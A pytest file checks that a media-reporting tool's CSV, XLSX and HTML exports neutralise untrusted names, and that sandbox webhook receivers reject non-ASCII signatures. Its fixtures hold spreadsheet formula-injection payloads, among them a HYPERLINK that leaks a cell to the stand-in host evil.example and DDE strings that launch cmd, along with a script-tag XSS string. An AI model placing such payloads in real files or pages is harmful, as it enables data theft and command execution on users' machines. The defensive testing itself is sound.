"""Class: what a stranger wrote (a pack's topic, a county or campaign name) reaches reports as
inert text. CSV cells that a spreadsheet would read as a formula are quoted (OWASP), XLSX
keeps every name a string cell, HTML escapes it. The sandbox receivers compare signatures as
bytes, so a non-ASCII header is a 401, not a 500."""

from __future__ import annotations

import csv
import hashlib
import hmac
import io
import sys
import time
from datetime import date
from pathlib import Path

import openpyxl
import pytest
import requests
import yaml

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from test_stats import add_delivery, add_pack, write_config  # noqa: E402

from media_matrix import stats  # noqa: E402
from media_matrix.config import load_settings  # noqa: E402
from media_matrix.sandbox import MediaCentreSandbox, SandboxServers, WechatSandbox  # noqa: E402
from media_matrix.stats.exporters import FORMULA_STARTS, csv_cell, render_html  # noqa: E402
from media_matrix.store import open_store  # noqa: E402

FORMULA_TOPIC = '=HYPERLINK("http://evil.example/?x="&A1)'
MINUS_TOPIC = "-2+3+cmd|' /C calc'!A0"
COUNTY = '=SUM(1+2)&"濮阳"'
CAMPAIGN = "@SUM(1+1)*cmd|' /C calc'!A0"
HTML_COUNTY = "<script>alert(1)</script>县"
# a bare CR is written as LF (quoted): a CR alone would end the row for a reader
HOSTILE = {FORMULA_TOPIC, MINUS_TOPIC, COUNTY, CAMPAIGN, "\tTAB", "\nCR"}


@pytest.fixture
def hostile_report(tmp_path: Path):
    config = write_config(tmp_path)
    data = yaml.safe_load(config.read_text(encoding="utf-8"))
    data["counties"] = {COUNTY: 1000, HTML_COUNTY: 2000, "\tTAB": 10}
    data["channels"][1]["county"] = COUNTY
    data["channels"][2]["county"] = HTML_COUNTY
    data["channels"][3]["county"] = "\tTAB"
    data["campaigns"] = [
        {"name": CAMPAIGN, "from": "05-01", "to": "05-31", "topics": [MINUS_TOPIC]}
    ]
    data["campaigns"].append(
        {"name": "\rCR", "from": "05-01", "to": "05-31", "topics": [MINUS_TOPIC]}
    )
    config.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    settings = load_settings(config)
    store = open_store(settings.database)
    pack = add_pack(store, 1, ["youth"], [FORMULA_TOPIC, MINUS_TOPIC])
    for n, channel in enumerate(["qingfeng-cms", "hualong-screen", "puyang-robot"]):
        add_delivery(store, pack, channel, f"2024-05-0{n + 2}T02:00:00+00:00", "delivered")
    stats.estimate(settings, store)
    yield settings, store
    store.close()


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
def test_csv_cell_quotes_every_formula_start(value):
    assert csv_cell(value) == "'" + value.replace("\r", "\n")
    assert csv_cell(-5) == -5 and csv_cell("科普") == "科普" and csv_cell(None) == ""


def test_csv_export_writes_no_formula_cell(hostile_report):
    settings, store = hostile_report
    seen: set[str] = set()
    for by in (("topic",), ("county",), ("campaign",), ("topic", "county", "campaign")):
        query = stats.Query(date(2024, 5, 1), date(2024, 5, 31), by)
        out = io.StringIO()
        assert stats.write_csv(stats.RowStream(settings, store, query), out) > 0
        for row in csv.reader(io.StringIO(out.getvalue())):
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS), (by, cell)
                if cell.startswith("'"):
                    seen.add(cell[1:])
    assert seen >= HOSTILE  # each hostile name arrived, quoted


def test_xlsx_keeps_formula_looking_names_as_strings(hostile_report, tmp_path):
    settings, store = hostile_report
    query = stats.Query(date(2024, 5, 1), date(2024, 5, 31), ("topic", "county", "campaign"))
    path = stats.write_xlsx(stats.build_report(settings, store, query), tmp_path / "r.xlsx")
    book = openpyxl.load_workbook(path)
    strings: set[str] = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    strings.add(cell.value)
    # names are shown as the text they are (topic ids may be shown with a label around them)
    for name in (COUNTY, CAMPAIGN, "\tTAB"):
        assert name in strings, name
    assert any(FORMULA_TOPIC in s for s in strings)


def test_html_report_escapes_names(hostile_report):
    settings, store = hostile_report
    query = stats.Query(date(2024, 5, 1), date(2024, 5, 31), ("county", "topic"))
    page = render_html(stats.build_report(settings, store, query), settings)
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;县" in page


# -- sandbox receivers: signatures compared as bytes ----------------------------------------


@pytest.fixture
def centre():
    servers = SandboxServers(mediacentre=MediaCentreSandbox())
    with servers:
        yield servers.mediacentre


def _post(centre, signature: bytes, body: bytes = b'{"title": "t"}') -> requests.Response:
    return requests.post(
        centre.url(),
        data=body,
        headers={
            "Content-Type": "application/json",
            "X-MM-Timestamp": str(int(time.time())),
            "X-MM-Nonce": "n-" + signature.hex()[:20],
            "X-MM-Signature": signature,  # type: ignore[dict-item]
            "Idempotency-Key": "k1",
        },
        timeout=10,
    )


@pytest.mark.parametrize(
    "signature",
    ["sha256=é".encode("latin-1"), "sha256=签名".encode(), b"\xff\xfe", b"sha256=" + b"\x80" * 64],
)
def test_non_ascii_signature_is_401(centre, signature):
    response = _post(centre, signature)
    assert response.status_code == 401, response.text
    assert centre.manuscripts == {}


def test_right_signature_still_accepted(centre):
    body = b'{"title": "t"}'
    ts, nonce = str(int(time.time())), "n-good"
    message = ts.encode() + b"\n" + nonce.encode() + b"\n" + body
    good = hmac.new(b"sandbox-secret", message, hashlib.sha256).hexdigest()
    response = requests.post(
        centre.url(),
        data=body,
        headers={
            "Content-Type": "application/json",
            "X-MM-Timestamp": ts,
            "X-MM-Nonce": nonce,
            "X-MM-Signature": good,
            "Idempotency-Key": "k2",
        },
        timeout=10,
    )
    assert response.status_code == 201, response.text


def test_wechat_sandbox_refuses_a_non_ascii_secret():
    servers = SandboxServers(wechat=WechatSandbox())
    with servers:
        response = requests.get(
            servers.wechat.base_url + "/cgi-bin/token",
            params={
                "grant_type": "client_credential",
                "appid": "wx-sandbox-appid",
                "secret": "密钥",
            },
            timeout=10,
        )
    assert response.status_code == 200 and response.json()["errcode"] == 40125
